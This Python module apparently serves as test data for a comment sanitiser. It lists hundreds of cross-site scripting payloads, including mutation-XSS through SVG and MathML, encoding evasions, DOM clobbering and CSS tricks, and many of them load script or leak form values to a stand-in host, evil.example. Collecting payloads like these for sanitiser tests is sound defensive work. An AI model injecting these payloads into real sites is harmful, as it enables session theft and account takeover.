"""Attacks as the markup of a comment: each would call ``hit`` or ask for something of evil.example.

They follow the techniques of OWASP's list of filter evasions and of the tests of well-known
sanitisers: other namespaces, elements that hold raw text, tags and quotes that are not closed,
encodings, clobbering, styles.
"""

from __future__ import annotations

_HANDLERS = (
    "abort activate afterprint afterscriptexecute animationcancel animationend animationiteration"
    " animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint"
    " beforescriptexecute beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough"
    " cellchange change click close contentvisibilityautostatechange contextmenu copy cuechange cut"
    " dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange end"
    " ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture"
    " hashchange help input invalid keydown keypress keyup layoutcomplete load loadeddata"
    " loadedmetadata loadend loadstart losecapture lostpointercapture message mousedown mouseenter"
    " mouseleave mousemove mouseout mouseover mouseup mousewheel move offline online pagehide"
    " pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter"
    " pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress"
    " propertychange ratechange readystatechange repeat reset resize resume reverse scroll"
    " scrollend rowsenter search securitypolicyviolation seek seeked seeking select selectionchange"
    " selectstart show slotchange stalled start stop storage submit suspend timeerror timeupdate"
    " toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun"
    " transitionstart unhandledrejection unload volumechange waiting webkitanimationend"
    " webkitfullscreenchange wheel xonerror"
)
HANDLERS = _HANDLERS.split()

_IN_TAGS = [f"<b on{name}=hit()>x</b>" for name in HANDLERS]

_SCRIPTS = """
<script>hit()</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script/x src="https://evil.example/x.js"></script>
<script src=//evil.example/.j>
<script src=https://evil.example/x.js?< B >
<<script>hit();//<</script>
<scr<script>ipt>hit()</scr</script>ipt>
<script>hit()
<script type=module>import "https://evil.example/x.js"</script>
<script type=text/vbscript>hit()</script>
<script a=">" src="https://evil.example/x.js"></script>
<script a=`>` src="https://evil.example/x.js"></script>
<script =">" src="https://evil.example/x.js"></script>
<script a=">'>" src="https://evil.example/x.js"></script>
</title><script>hit()</script>
</script><script>hit()</script>
"><script>hit()</script>
'><script>hit()</script>
<img \"""><script>hit()</script>">
<script><!-- hit() --></script>
<script><!--<script></script>--><img src=x onerror=hit()></script>
<style><!--</style><script>hit()//--></script>
<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>
<b><noscript><!-- </noscript><img src=x onerror=hit() --></noscript>
<b><noscript><a alt="</noscript><img src=x onerror=hit()>"></noscript>
<noembed><img title="</noembed><img src=x onerror=hit()>"></noembed>
<noframes><img title="</noframes><img src=x onerror=hit()>"></noframes>
<iframe><img title="</iframe><img src=x onerror=hit()>"></iframe>
<xmp><p title="</xmp><img src=x onerror=hit()>"></xmp>
<plaintext><img src=x onerror=hit()>
<listing>&lt;img src=x onerror=hit()&gt;<t t></listing>
<textarea>x</textarea><!--</textarea><img src=x onerror=hit()>-->
<title><a title="</title><img src=x onerror=hit()>"></title>
<template><script>hit()</script></template>
<template><s><template><s><img src=x onerror=hit()></s></template></s></template>
<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>
<select><option><style></option></select><b><img src=x onerror=hit()></style>
<option><iframe></select><b><script>hit()</script>
<select><keygen><script>hit()</script></select>
<select><template><img src=x onerror=hit()></template></select>
<select><noscript></select><img src=x onerror=hit()></noscript></select>
<b><style><style/><img src=x onerror=hit()>
<b><style><style////><img src=x onerror=hit()></style>
<image src=x onerror=hit()>
<isindex type=image src=x onerror=hit()>
<isindex action=javascript:hit() type=image>
<keygen autofocus onfocus=hit()>
<bgsound src=https://evil.example/x>
<layer src=https://evil.example/x></layer>
<ilayer src=https://evil.example/x></ilayer>
<applet code=X codebase=https://evil.example/></applet>
<object data="data:text/html,<script>hit()</script>"></object>
<object type=text/x-scriptlet data=https://evil.example/x></object>
<embed src=https://evil.example/x.swf allowscriptaccess=always>
<embed src="data:image/svg+xml,<svg onload=hit()>">
<iframe src=javascript:hit()></iframe>
<iframe src=https://evil.example/ <
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.hit()&gt;">
<frameset onload=hit()><frame src=javascript:hit()></frameset>
<portal src=https://evil.example/></portal>
<fencedframe src=https://evil.example/></fencedframe>
<base href=https://evil.example/><a href=x>y</a>
<base href="javascript:/a/-hit();//">
<meta http-equiv=refresh content="0;url=javascript:hit()">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=set-cookie content="a=b">
<meta charset=utf-7>+ADw-script+AD4-hit()+ADw-/script+AD4-
<meta http-equiv=Link content="<https://evil.example/x.css>; rel=stylesheet">
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=stylesheet href=javascript:hit()>
<link rel=import href=https://evil.example/>
<link rel=preload as=image href=https://evil.example/x imagesrcset=https://evil.example/y>
<body onload=hit() background=https://evil.example/x>
<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=hit()>
<html onmouseover=hit() manifest=https://evil.example/x>
<xml id=x src=https://evil.example/x></xml><span datasrc=#x datafld=y dataformatas=html></span>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">hit()</x:script>
<xss id=x tabindex=1 onfocus=hit() autofocus></xss>
<details open ontoggle=hit()><summary>x</summary></details>
<dialog open onclose=hit()><form method=dialog><button autofocus>x</button></form></dialog>
<video src=x onerror=hit()></video><audio src=x onerror=hit()></audio>
<video poster=https://evil.example/x><source src=https://evil.example/y onerror=hit()></video>
<picture><source srcset=https://evil.example/x><img src=https://evil.example/y></picture>
<img src=x srcset="https://evil.example/a 1x, https://evil.example/b 2x" onerror=hit()>
<img src=x:x onerror=hit()//
<img src="x` `<script>hit()</script>"` `>
<img/src=x/onerror=hit()>
<img src=x\x0conerror=hit()>
<img src=x\ronerror=hit()>
<img src=x\tonerror¶=¶hit()>
<img\x00 src=x onerror=hit()>
<i\x00mg src=x onerror=hit()>
<img src=x id/=' onerror=hit()//'>
<img src='x'onerror='hit()'>
<img src=x onerror="&#104;it&lpar;&rpar;">
<img src=x onerror=&#x68&#x69&#x74()>
<input autofocus onfocus=hit()><button formaction=javascript:hit()>x</button>
<form action=javascript:hit()><input type=submit></form>
<form id=x></form><button form=x formaction=javascript:hit()>y</button>
<form><input name=attributes><input name=parentNode onfocus=hit() autofocus></form>
<form name=body><input name=firstChild></form><img name=cookie src=x><a id=location href=#>x</a>
<a id=hit href=https://evil.example/>x</a><a id=hit name=toString>y</a>
<map name=x><area shape=rect coords=0,0,9,9 href=javascript:hit()></map><img usemap=#x src=y>
<marquee onstart=hit() loop=1>x</marquee>
<table background=javascript:hit()><td background=https://evil.example/x>x
<col background=https://evil.example/x><br size="&{hit()}">
<a ping=https://evil.example/ href=https://ok.example/>x</a>
<a href=https://ok.example/ target=_blank rel=opener download>x</a>
<a href=https://ok.example/ onclick=hit() style=position:fixed class=button id=main name=x>y</a>
<p contenteditable autofocus onfocus=hit() accesskey=x onclick=hit() popover is=x-y slot=z>y</p>
<p lang=x dir=rtl itemprop=text hidden inert nonce=x part=y role=alert aria-label=z>y</p>
<a href="https://ok.example/" onclick="hit()"onmouseover="hit()">x</a>
<a href='https://ok.example/"onmouseover="hit()'>x</a>
<a href="https://ok.example/' onmouseover='hit()">x</a>
<a href=https://ok.example/`onmouseover=`hit()>x</a>
<a href="https://ok.example/?a=&quot;&gt;&lt;img src=x onerror=hit()&gt;">x</a>
<a href=https://ok.example/><a href=javascript:hit()>x</a></a>
<!--[if gte IE 4]><script>hit()</script><![endif]-->
<!--[if<img src=x onerror=hit()>]-->
<!--><img src=x onerror=hit()>-->
<!---><img src=x onerror=hit()>-->
<!--- --!><img src=x onerror=hit()>-->
<!-- -- --><img src=x onerror=hit()><!-- -->
<! foo="><script>hit()</script>">
<!DOCTYPE x [<!ENTITY y "<script>hit()</script>">]>&y;
<!ELEMENT x><img src=x onerror=hit()>
<? foo="><script>hit()</script>">
<?xml version="1.0"?><?xml-stylesheet href="javascript:hit()"?><x/>
</ foo="><script>hit()</script>">
</x onclick=hit()><//x><img src=x onerror=hit()>
<% foo><x foo="%><script>hit()</script>">
<![CDATA[<script>hit()</script>]]>
<![><img src=x onerror=hit()>
<![<img src=x onerror=hit()>]]>
&lt;script&gt;hit()&lt;/script&gt;
&ltscript&gthit()&lt/script&gt
&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;
&#60script&#62hit()&#60/script&#62
&#x3C;script&#x3E;hit()&#x3C;/script&#x3E;
&#0060script&#0062hit()
%3Cscript%3Ehit()%3C/script%3E
\\u003cscript\\u003ehit()\\u003c/script\\u003e
\\x3cscript\\x3ehit()
+ADw-SCRIPT+AD4-hit()+ADw-/SCRIPT+AD4-
\xbcscript\xbehit()\xbc/script\xbe
\uff1cscript\uff1ehit()\uff1c/script\uff1e
\u2039script\u203ahit()
\ufeff<script>hit()</script>\ufeff
<\u017fcript>hit()</\u017fcript>
<scr\u0131pt>hit()</scr\u0131pt>
<script\u2028>hit()</script>
<script\xa0>hit()</script>
\x01<option><style></option></select><b><img src=x onerror=hit()></style></option>
\ud83d<script>hit()</script>\udc00
""".strip("\n").split("\n")

_NAMESPACES = """
<svg onload=hit()>
<svg/onload=hit()>
<svg><script>hit()</script></svg>
<svg><script href=https://evil.example/x.js></script></svg>
<svg><script>&#104;it()</script></svg>
<svg><script/xlink:href="data:,hit()"></script></svg>
<svg><a xlink:href=javascript:hit()><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:hit() /><text y=9>x</text></a></svg>
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=hit()></svg>
<svg><image href=https://evil.example/x onerror=hit()></image></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></use></svg>
<svg><foreignObject><iframe src=javascript:hit()></iframe></foreignObject></svg>
<svg><foreignObject><math><mi><style></math><img src=x onerror=hit()></style>
<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=hit()></noscript></desc></svg>
<svg><title><a id="</title><img src=x onerror=hit()>"></title></svg>
<svg></p><style><a id="</style><img src=1 onerror=hit()>">
<svg><p><style><g title="</style><img src onerror=hit()>"></svg>
<svg><style>&lt;img src=x onerror=hit()&gt;</style></svg>
<svg><style><img src=x onerror=hit()></style></svg>
<svg><style><![CDATA[</style><img src=x onerror=hit()>]]></style></svg>
<svg><![CDATA[><img src=x onerror=hit()>]]></svg>
<svg><![CDATA[]]&gt;<img src=x onerror=hit()>
<svg><xmp><img title="</xmp><img src=x onerror=hit()>"></svg>
<svg><b><svg><style><img title="</style><img src=x onerror=hit()>">
<svg><font color=x><img src=x onerror=hit()>
<svg><template><svg><script>hit()</script></template>
<svg><br><p><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">
<svg xmlns="http://www.w3.org/1999/xhtml"><script>hit()</script></svg>
<svg><metadata><img src=x onerror=hit()></metadata><style>@import "https://evil.example/"</style>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>hit()</handler></svg>
<svg><feImage href=https://evil.example/x /><filter id=x></filter></svg>
<svg><style>*{background:url(https://evil.example/)}</style></svg>
<math href=javascript:hit()>x</math>
<math><mi xlink:href="data:x,<script>hit()</script>">x</mi></math>
<math><maction actiontype="statusline#https://evil.example/" xlink:href=javascript:hit()>x</maction>
<math><mtext><script>hit()</script></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">
<math><mtext><table><mglyph><style><![CDATA[</style><a id="]]&gt;&lt;img src onerror=hit()&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style>\
<img src=x onerror=hit()>"></style></mtext></svg></mglyph></option></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit()></style></annotation-xml>
<math><annotation-xml encoding="application/xhtml+xml"><iframe srcdoc="<script>hit()</script>">
<math><annotation-xml><svg><foreignObject><style><!--</style><p id="--><img src=x onerror=hit()>">
<math><style><img title="</style><img src=x onerror=hit()>"></style></math>
<math></p><style><!--</style><img src/onerror=hit()>--></style></math>
<math><mi><table><td><mglyph><malignmark><style></math><img src onerror=hit()>
<table><math><mi><b><style></table><img src=x onerror=hit()></style>
<table><tr><td><svg><desc><td><style><img title="</style><img src=x onerror=hit()>">
<table><colgroup><template><script>hit()</script></template><a href=javascript:hit()>x
<p><svg><p></svg><style><img title="</style><img src=x onerror=hit()>">
<h1><svg></h1><style><h2 title="</style><img src=x onerror=hit()>">
<a><svg><a><style><img title="</style><img src=x onerror=hit()>">
<ruby><rt><svg></ruby><style><img title="</style><img src=x onerror=hit()>">
<b><i><svg></b><p><style></i><img src=x onerror=hit()>
""".strip("\n").split("\n")

_STYLES = """
<p style="background:url(javascript:hit())">x</p>
<p style="background-image:\\75rl(https://evil.example/)">x</p>
<p style="width:expression(hit())">x</p>
<p style="width:exp/**/ression(hit())">x</p>
<p style="xss:e\\xp\\re\\s\\s\\i\\o\\n(hit())">x</p>
<p style="-moz-binding:url(https://evil.example/x.xml#y)">x</p>
<p style="behavior:url(https://evil.example/x.htc)">x</p>
<p style="position:fixed;inset:0;z-index:9999;background:red">x</p>
<p style=":url(&#x6a;avascript:hit())" style="color:red">x</p>
<p style="content:url(data:image/svg+xml,<svg/onload=hit()>)">x</p>
<p style='@import "https://evil.example/x.css"'>x</p>
<p style="font-family:'x\\3c/style\\3e'">x</p>
<style>@import "https://evil.example/x.css";</style>
<style>@im\\port'\\ja\\vasc\\ript:hit()';</style>
<style>body{-moz-binding:url("https://evil.example/x.xml#y")}</style>
<style type=text/css>a{background:url("javascript:hit()")}</style>
<style>input[value^=a]{background:url(https://evil.example/a)}</style>
<style>li{list-style-image:url(javascript:hit())}</style><ul><li>x</br>
<style>@font-face{font-family:x;src:url(https://evil.example/x)}*{font-family:x}</style>
<style>*{x:expression(hit())}
<style></style/><img src=x onerror=hit()></style>
<style>x{}</style ><img src=x onerror=hit()>
<font style="a:b" face="x" color="expression(hit())">x</font>
<xss style="animation-name:x" onanimationstart=hit()></xss>
""".strip("\n").split("\n")


def _read(lines: list[str]) -> list[str]:
    """Return the lines; a pilcrow in one stands for the end of a line."""
    return [line.replace("¶", "\n") for line in lines if line]


MARKUP = [*_read(_SCRIPTS), *_read(_NAMESPACES), *_read(_STYLES), *_IN_TAGS]
"""All of them."""
